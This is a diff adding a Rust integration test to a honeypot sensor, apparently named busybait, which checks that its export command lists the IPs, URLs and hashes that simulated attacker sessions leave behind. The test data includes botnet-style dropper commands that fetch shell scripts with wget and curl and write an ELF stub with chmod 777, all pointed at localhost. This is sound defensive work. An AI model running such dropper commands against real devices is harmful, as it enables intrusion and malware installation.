@@ -609,3 +609,105 @@ fn fetching_over_ftp_lands_the_binary_as_a_sample() {
     let stored = sensor.data_dir.path().join("samples").join(&sha);
     assert_eq!(std::fs::read(stored).unwrap(), binary);
 }
+
+/// Runs `busybait export` on a data dir and returns its stdout.
+fn export(dir: &std::path::Path, args: &[&str]) -> String {
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_busybait"))
+        .arg("export")
+        .arg("--data-dir")
+        .arg(dir)
+        .args(args)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8(out.stdout).unwrap()
+}
+
+#[test]
+fn exports_list_the_indicators_the_sessions_left() {
+    let sensor = Sensor::start_with("profile = \"xiongmai-dvr\"\n");
+    let payload = b"\x7fELF\x01\x01";
+    let sha: String = Sha256::digest(payload)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    for (i, line) in [
+        "wget http://127.0.0.1:80/bins/a.sh\r\n",
+        "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > /var/x; chmod 777 /var/x; curl -O http://127.0.0.1/c.sh\r\n",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let mut client = sensor.connect_from(source(20 + i * 8));
+        client.login();
+        client.send(line.as_bytes());
+        client.send(b"exit\r\n");
+        client.read_to_close(std::time::Duration::from_secs(10));
+    }
+    sensor.wait_for_events("both sessions closed", |e| {
+        e.iter()
+            .filter(|v| v["eventid"] == "cowrie.session.closed")
+            .count()
+            == 2
+    });
+    let (dir, _) = sensor.stop();
+    let dir = dir.path();
+    assert_eq!(
+        export(dir, &["--format", "ips"]),
+        "127.1.0.22\n127.1.0.30\n"
+    );
+    assert_eq!(
+        export(dir, &["--format", "urls"]),
+        "http://127.0.0.1/c.sh\nhttp://127.0.0.1:80/bins/a.sh\n"
+    );
+    assert_eq!(export(dir, &["--format", "hashes"]), format!("{sha}\n"));
+    let csv = export(dir, &["--format", "csv"]);
+    let rows: Vec<Vec<&str>> = csv.lines().map(|l| l.split(',').collect()).collect();
+    assert_eq!(
+        rows[0],
+        ["type", "value", "first_seen", "last_seen", "count"]
+    );
+    let kinds: Vec<(&str, &str, &str)> = rows[1..].iter().map(|r| (r[0], r[1], r[4])).collect();
+    assert_eq!(
+        kinds,
+        [
+            ("ip", "127.1.0.22", "1"),
+            ("ip", "127.1.0.30", "1"),
+            ("url", "http://127.0.0.1/c.sh", "1"),
+            ("url", "http://127.0.0.1:80/bins/a.sh", "1"),
+            ("sha256", sha.as_str(), "1"),
+        ]
+    );
+    assert_eq!(
+        export(dir, &["--format", "csv"]),
+        csv,
+        "same data, same bytes"
+    );
+    // A window after everything is empty; a window that is not a time is an error.
+    assert_eq!(
+        export(dir, &["--format", "ips", "--since", "2999-01-01T00:00:00Z"]),
+        ""
+    );
+    assert_eq!(
+        export(dir, &["--format", "ips", "--since", "1h"]),
+        "127.1.0.22\n127.1.0.30\n"
+    );
+    let bad = std::process::Command::new(env!("CARGO_BIN_EXE_busybait"))
+        .args([
+            "export",
+            "--format",
+            "ips",
+            "--since",
+            "yesterday",
+            "--data-dir",
+        ])
+        .arg(dir)
+        .output()
+        .unwrap();
+    assert!(!bad.status.success());
+    assert!(String::from_utf8_lossy(&bad.stderr).contains("neither an RFC 3339 time"));
+}
